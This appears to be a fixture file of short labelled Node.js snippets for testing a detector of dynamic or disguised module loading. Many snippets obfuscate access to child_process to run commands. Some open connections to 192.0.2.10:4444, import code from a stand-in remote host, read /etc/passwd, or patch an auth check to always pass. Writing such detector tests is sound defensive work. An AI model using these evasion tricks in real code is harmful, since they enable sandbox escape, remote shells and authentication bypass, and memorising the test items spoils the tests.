//--- mod-require-variable: require of a variable
const name = process.argv[2];
require(name);
//--- mod-require-env: require named by the environment
require(process.env.PLUGIN);
//--- mod-require-file-content: require named by a file
const fs = require('fs');
require(fs.readFileSync('plugin.txt', 'utf8').trim());
//--- mod-require-parameter: require of a parameter
function plugin(n) { return require('./plugins/' + n); }
plugin(process.argv[2]);
//--- mod-require-stdin: require named by stdin
process.stdin.once('data', (d) => require(String(d).trim()));
//--- mod-require-json-parse: require named in JSON
const { entry } = JSON.parse(require('fs').readFileSync('conf.json', 'utf8'));
require(entry);
//--- mod-require-absolute: absolute path outside
require('/usr/lib/node_modules/npm/lib/npm.js');
//--- mod-require-traversal: climbs out of the workspace
require('../../../../opt/tool/index.js');
//--- mod-require-ternary-input: choice by input
require(process.argv[2] === 'a' ? process.argv[3] : './b');
//--- mod-require-loop: every file in a folder
const fs = require('fs');
for (const f of fs.readdirSync('./plugins')) require('./plugins/' + f);
//--- mod-import-variable: import of a variable
const spec = process.argv[2];
import(spec);
//--- mod-import-await-variable: awaited import of a variable
const spec = process.env.MOD;
const m = await import(spec);
m.default();
//--- mod-import-template: import of a template
const who = process.argv[2];
import(`./handlers/${who}.js`).then((m) => m.run());
//--- mod-import-file-url: import of a file URL
await import('file:///etc/evil.mjs');
//--- mod-import-http: import of an http URL
import('https://collect.example.invalid/mod.js');
//--- mod-import-function-result: import of a call result
const next = () => process.argv.at(-1);
import(next());
//--- mod-create-require: createRequire in ESM
import { createRequire } from 'node:module';
const require = createRequire(import.meta.url);
require('child_process').execSync('id');
//--- mod-create-require-inline: createRequire called in place
import module from 'module';
module.createRequire('/')('child_process').execSync('id');
//--- mod-create-require-cjs: createRequire in CommonJS
const r = require('module').createRequire(__filename);
r('net').connect(4444, '192.0.2.10');
//--- mod-load: Module._load
const Module = require('module');
Module._load('child_process').execSync('id');
//--- mod-load-destructured: _load destructured
const { _load: get } = require('module');
get('child_process').execSync('id');
//--- mod-load-computed: _load by concatenation
require('module')['_lo' + 'ad']('child_process').execSync('id');
//--- mod-load-hook: hooks Module._load for everyone
const M = require('module');
const old = M._load;
M._load = function (id, ...rest) { console.log('loading', id); return old.call(this, id, ...rest); };
//--- mod-constructor-load: module.constructor._load
module.constructor._load('child_process').execSync('id');
//--- mod-constructor-load-computed: computed all the way
module['constr' + 'uctor']['_load']('child_process').execSync('id');
//--- mod-constructor-create-require: createRequire off module.constructor
module.constructor.createRequire('/x')('child_process').execSync('id');
//--- mod-constructor-prototype-require: prototype require
module.constructor.prototype.require('child_process').execSync('id');
//--- mod-prototype-require-hook: patches Module.prototype.require
const { prototype } = require('module');
const orig = prototype.require;
prototype.require = function (id) { return orig.call(this, id === 'fs' ? './fake' : id); };
//--- mod-main-module: process.mainModule.require
process.mainModule.require('child_process').execSync('id');
//--- mod-main-module-computed: computed mainModule
process['main' + 'Module']['req' + 'uire']('child_process').execSync('id');
//--- mod-main-module-destructured: mainModule destructured
const { mainModule: { require: need } } = process;
need.call(process.mainModule, 'child_process').execSync('id');
//--- mod-main-module-constructor: mainModule.constructor
process.mainModule.constructor._load('child_process').execSync('id');
//--- mod-require-main: require.main.require
require.main.require('child_process').execSync('id');
//--- mod-require-main-constructor: require.main.constructor
require.main.constructor._load('net').connect(4444, '192.0.2.10');
//--- mod-parent-require: module.parent.require
module.parent?.require('child_process').execSync('id');
//--- mod-children-walk: walks module.children
for (const c of module.children) c.require('child_process').execSync('id');
//--- mod-cache-replace: replaces a cached module
require.cache[require.resolve('./config')] = { exports: { admin: true } };
//--- mod-cache-delete: drops everything from the cache
for (const k of Object.keys(require.cache)) delete require.cache[k];
//--- mod-cache-patch: patches a cached module's exports
require.cache[require.resolve('./auth')].exports.check = () => true;
//--- mod-cache-alias: cache under another name
const { cache } = require;
cache[__filename].exports = { patched: 1 };
//--- mod-extensions-hook: hook on require.extensions
require.extensions['.js'] = function (m, f) { m._compile('process.exit()', f); };
//--- mod-resolve-filename-hook: hooks _resolveFilename
require('module')._resolveFilename = () => '/tmp/evil.js';
//--- mod-register-loader: registers a loader
import { register } from 'node:module';
register('./hooks.mjs', import.meta.url);
//--- mod-global-paths: adds a search path
module.paths.unshift('/tmp/modules');
require('lodash');
//--- mod-constructor-process: constructor chain to process
const proc = this.constructor.constructor('return process')();
proc.mainModule.require('child_process').execSync('id');
//--- mod-constructor-require: constructor chain to require
const req = ({}).constructor.constructor('return process.mainModule.require')();
req('child_process').execSync('id');
//--- mod-get-builtin-module: process.getBuiltinModule
process.getBuiltinModule('child_process').execSync('id');
//--- mod-get-builtin-computed: getBuiltinModule by join
process[['get', 'Builtin', 'Module'].join('')]('net').connect(4444, '192.0.2.10');
//--- mod-global-process-main: global.process.mainModule
global.process.mainModule.require('fs').readFileSync('/etc/passwd');
//--- mod-arguments-require: require out of the module wrapper's arguments
arguments[1]('child_process').execSync('id');
//--- mod-arguments-spread: wrapper arguments destructured
const [, need] = arguments;
need('child_process').execSync('id');
//--- mod-wrapper-patch: changes the module wrapper
require('module').wrapper[0] += 'process.exit();';
//--- mod-esm-namespace-module: module namespace in ESM
import * as mod from 'node:module';
mod.default._load('child_process').execSync('id');
//--- mod-import-meta-resolve: resolves and imports
const where = import.meta.resolve(process.argv[2]);
await import(where);
//--- mod-require-proxy: require wrapped in a Proxy
const r = new Proxy(require, { apply: (t, self, [n]) => t(n.slice(1)) });
r('xchild_process').execSync('id');
//--- mod-require-symbol-table: require found by iteration
for (const v of Object.values({ a: 1, b: require })) {
  if (typeof v === 'function') v('child_process').execSync('id');
}
//--- mod-require-concat-list: a list put behind another
const name = ['x'].concat('child_process')[1];
require(name).exec('id');
//--- mod-require-callback-grown: a text that grows in a callback
let name = '';
['child_', 'process'].forEach((part) => { name += part; });
require(name).exec('id');
//--- mod-made-up-constructor: the maker of a function by a made-up name
const key = Symbol('constructor').description;
(() => {})[key]('return process')().exit();
